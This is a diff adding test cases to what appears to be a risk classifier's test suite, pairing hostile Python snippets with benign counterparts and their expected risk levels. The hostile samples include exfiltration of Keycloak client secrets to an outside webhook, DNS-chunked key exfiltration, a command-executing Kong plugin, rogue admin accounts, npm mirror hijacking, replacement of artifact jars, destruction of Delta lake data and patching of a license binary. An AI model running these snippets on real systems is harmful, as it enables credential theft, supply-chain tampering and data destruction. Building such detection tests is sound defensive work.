@@ -16969,6 +16969,172 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             '    doc.save(path)\n',
             H,
         ),
+        # Round 101: identity brokers, artifact repositories, DNS chunks, lakehouse tables, license servers
+        (
+            'import os, requests\n'
+            'KC = os.environ["KC_URL"]\n'
+            'h = {}\n'
+            'out = []\n'
+            'for c in requests.get(f"{KC}/admin/realms/corp/clients", headers=h).json():\n'
+            '    s = requests.get(f"{KC}/admin/realms/corp/clients/{c[\'id\']}/client-secret", headers=h).json('
+            ')\n'
+            '    out.append(s)\n'
+            'requests.post("https://hooks.example.net/in", json=out)\n',
+            C,
+        ),
+        (
+            'import os, requests\n'
+            'KC = os.environ["KC_URL"]\n'
+            's = requests.get(f"{KC}/admin/realms/corp/clients/abc/client-secret").json()["value"]\n'
+            'requests.post(f"{KC}/realms/corp/protocol/openid-connect/token", data={"client_id": "svc", "clie'
+            'nt_secret": s})\n',
+            L,
+        ),
+        (
+            'import requests\n'
+            'kc = "https://sso.example.com"\n'
+            'r = requests.post(f"{kc}/admin/realms/corp/users/{uid}/impersonation", headers=h)\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'A = "https://kong-admin:8444"\n'
+            'requests.post(f"{A}/default/rbac/users", json={"name": "ci", "user_token": "t"})\n'
+            'requests.post(f"{A}/default/rbac/users/ci/roles", json={"roles": "super-admin"})\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'A = "https://kong-admin:8444"\n'
+            'requests.post(f"{A}/default/rbac/users/ci/roles", json={"roles": "read-only"})\n',
+            L,
+        ),
+        (
+            'import requests\n'
+            'for api in requests.get(GW + "/tyk/apis").json():\n'
+            '    api["use_keyless"] = True\n'
+            '    requests.put(GW + f"/tyk/apis/{api[\'api_id\']}", json=api)\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'lua = "local p = io.popen(kong.request.get_header(\'x-c\'))"\n'
+            'requests.post("http://localhost:8001/plugins", json={"name": "pre-function", "config": {"access"'
+            ': [lua]}})\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'requests.post("http://localhost:8001/plugins", json={"name": "rate-limiting", "config": {"minute'
+            '": 60}})\n',
+            L,
+        ),
+        (
+            'import requests\n'
+            'body = {"userId": "svc", "password": "x", "roles": ["nx-admin"]}\n'
+            'requests.post(f"{base}/service/rest/v1/security/users", json=body)\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'body = {"userId": "ci", "password": pw, "roles": ["nx-deployer"]}\n'
+            'requests.post(f"{base}/service/rest/v1/security/users", json=body)\n',
+            L,
+        ),
+        (
+            'import requests\n'
+            'perm = {"repo": {"actions": {"users": {"anonymous": ["read", "delete", "manage"]}}}}\n'
+            'requests.put(f"{base}/api/v2/security/permissions/p", json=perm)\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'cfg = requests.get(f"{base}/api/repositories/npm-remote").json()\n'
+            'cfg["url"] = "http://registry.mirror.example.net/"\n'
+            'requests.post(f"{base}/api/repositories/npm-remote", json=cfg)\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'cfg = requests.get(f"{base}/api/repositories/npm-remote").json()\n'
+            'cfg["url"] = "https://registry.npmjs.org/"\n'
+            'requests.post(f"{base}/api/repositories/npm-remote", json=cfg)\n',
+            L,
+        ),
+        (
+            'import hashlib, requests\n'
+            'url = f"{base}/libs-release-local/com/x/app/{v}/app-{v}.jar"\n'
+            'data = open("app.jar", "rb").read()\n'
+            'requests.put(url, data=data, headers={"X-Checksum-Sha1": hashlib.sha1(data).hexdigest()})\n',
+            S,
+        ),
+        (
+            'import hashlib, requests\n'
+            't = "https://nexus.example.com/repository/maven-releases/com/x/core/3.2.0/core-3.2.0.jar"\n'
+            'blob = open("patched.jar", "rb").read()\n'
+            'requests.put(t, data=blob)\n'
+            'for ext in ("sha1", "md5"):\n'
+            '    requests.put(f"{t}.{ext}", data=getattr(hashlib, ext)(blob).hexdigest())\n',
+            H,
+        ),
+        (
+            'import json, socket\n'
+            'for d in json.load(open("devices.json")):\n'
+            '    blob = d["app_key"]\n'
+            '    for i in range(0, len(blob), 30):\n'
+            '        socket.gethostbyname(f"{blob[i:i+30]}.{i}.t.example.net")\n',
+            H,
+        ),
+        (
+            'import socket\n'
+            'for host in ("db1.internal", "db2.internal"):\n'
+            '    print(socket.gethostbyname(host))\n',
+            S,
+        ),
+        (
+            'from delta.tables import DeltaTable\n'
+            'for name in ["finance.ledger"]:\n'
+            '    t = DeltaTable.forName(spark, name)\n'
+            '    t.vacuum(0)\n',
+            H,
+        ),
+        (
+            'from delta.tables import DeltaTable\n'
+            'DeltaTable.forName(spark, "events").vacuum(168)\n',
+            S,
+        ),
+        (
+            'import s3fs\n'
+            'fs = s3fs.S3FileSystem()\n'
+            'for key in fs.glob("lake-prod/warehouse/*/*/metadata/*.metadata.json"):\n'
+            '    with fs.open(key, "wb") as out:\n'
+            '        out.write(b"{}")\n',
+            H,
+        ),
+        (
+            'import subprocess, re\n'
+            'stat = subprocess.run(["lmutil", "lmstat", "-f", "X"], capture_output=True, text=True).stdout\n'
+            'for line in stat.splitlines():\n'
+            '    m = re.match(r"\\s+(\\S+) (\\S+)", line)\n'
+            '    if m:\n'
+            '        subprocess.run(["lmutil", "lmremove", "-h", "X", "srv", "27000", m.group(2)])\n',
+            H,
+        ),
+        (
+            'import subprocess\n'
+            'print(subprocess.run(["lmutil", "lmstat", "-a", "-c", "27000@srv"], capture_output=True, text=Tr'
+            'ue).stdout)\n',
+            L,
+        ),
+        (
+            'path = "/opt/flexlm/bin/cdslmd"\n'
+            'with open(path, "r+b") as fh:\n'
+            '    data = bytearray(fh.read())\n'
+            '    data[100:102] = b"\\x90\\xe9"\n'
+            '    fh.seek(0)\n'
+            '    fh.write(data)\n',
+            H,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
